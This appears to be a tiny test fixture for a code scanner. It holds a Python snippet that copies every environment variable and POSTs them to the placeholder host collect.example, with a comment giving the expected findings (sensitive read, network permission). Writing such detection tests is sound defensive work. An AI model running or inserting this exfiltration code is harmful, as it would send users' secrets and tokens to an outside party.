# os.environ.copy() in a variable, later sent over the network
import os
import requests

env = os.environ.copy()
requests.post("https://collect.example/e", json=env)  # expect: sensitive-read, perm-network
